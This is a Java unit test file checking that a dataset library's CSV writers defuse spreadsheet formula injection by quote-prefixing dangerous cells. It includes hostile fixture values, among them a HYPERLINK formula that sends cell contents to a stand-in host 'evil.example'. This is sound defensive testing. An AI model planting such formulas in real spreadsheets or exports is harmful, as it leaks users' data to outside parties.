package dev.slant.datasets.io;

import static org.junit.jupiter.api.Assertions.assertEquals;

import dev.slant.datasets.Article;
import dev.slant.datasets.LabelledArticle;
import dev.slant.datasets.Labels;
import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/**
 * Spreadsheet formula injection: a CSV cell starting with {@code = + - @}, a tab or a carriage return is run as a
 * formula by Excel, LibreOffice and Google Sheets. Every CSV writer prefixes such a cell with a single quote (as
 * OWASP recommends), except a plain number such as {@code -1.5}; JSONL is written as is.
 */
class FormulaCellsTest {
    private static final List<String> HOSTILE = List.of("=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", "+cmd",
            "-1+1", "@SUM(A1:A9)", "\tstarts with a tab", "\rstarts with a return");
    private static final Labels LEFT = new Labels(Map.of("stance", List.of("left")));
    private static final ArticleLayout LAYOUT = new ArticleLayout(List.of(Article.OUTLET), List.of("stance"));

    private static List<LabelledArticle> articles() {
        List<LabelledArticle> list = new java.util.ArrayList<>();
        int i = 0;
        for (String h : HOSTILE) {
            list.add(new LabelledArticle(new Article(h, h, "text " + i++, Map.of(Article.OUTLET, h)), LEFT));
        }
        list.add(new LabelledArticle(new Article("-12.5", "'quoted already", "=text", Map.of(Article.OUTLET, "-3")),
                LEFT));
        return list;
    }

    private static void write(Path target) throws IOException {
        try (ArticleWriter w = ArticleWriters.open(target, LAYOUT)) {
            for (LabelledArticle a : articles()) {
                w.write(a);
            }
            w.commit();
        }
    }

    @Test
    void csvCellsThatWouldBeFormulasArePrefixedWithAQuote(@TempDir Path dir) throws IOException {
        Path csv = dir.resolve("out.csv");
        write(csv);
        Fixtures.CollectingSink sink = new Fixtures.CollectingSink();
        List<LabelledArticle> back = Fixtures.all(ArticleReaders.open(csv, LAYOUT.readingMapping(), sink.lenient()));
        assertEquals(HOSTILE.size() + 1, back.size());
        for (int i = 0; i < HOSTILE.size(); i++) {
            Article a = back.get(i).article();
            assertEquals("'" + HOSTILE.get(i), a.id());
            assertEquals("'" + HOSTILE.get(i), a.title());
            assertEquals("'" + HOSTILE.get(i), a.metadata().get(Article.OUTLET));
        }
        Article last = back.get(HOSTILE.size()).article();
        assertEquals("-12.5", last.id(), "a plain number is left as is");
        assertEquals("-3", last.metadata().get(Article.OUTLET));
        assertEquals("'quoted already", last.title(), "a quote is not a formula: no second quote");
        assertEquals("'=text", last.text());
    }

    @Test
    void jsonlIsWrittenAsIs(@TempDir Path dir) throws IOException {
        Path jsonl = dir.resolve("out.jsonl");
        write(jsonl);
        Fixtures.CollectingSink sink = new Fixtures.CollectingSink();
        List<LabelledArticle> back = Fixtures.all(ArticleReaders.open(jsonl, LAYOUT.readingMapping(), sink.lenient()));
        for (int i = 0; i < HOSTILE.size(); i++) {
            assertEquals(HOSTILE.get(i), back.get(i).article().id());
        }
    }

    @Test
    void rejectsFilesAreNeutralisedToo(@TempDir Path dir) throws IOException {
        Path rejects = dir.resolve("rejects.csv");
        try (CsvRejectSink sink = CsvRejectSink.open(rejects)) {
            sink.reject(new RecordProblem("=evil.csv", 1, 2, "@col", RecordProblem.Reason.EMPTY_TEXT, "+detail"),
                    List.of("=1+1"));
            sink.commit();
        }
        assertEquals("file,record,line,column,reason,detail,raw\r\n'=evil.csv,1,2,'@col,EMPTY_TEXT,'+detail,'=1+1\r\n",
                Files.readString(rejects, StandardCharsets.UTF_8));
    }
}
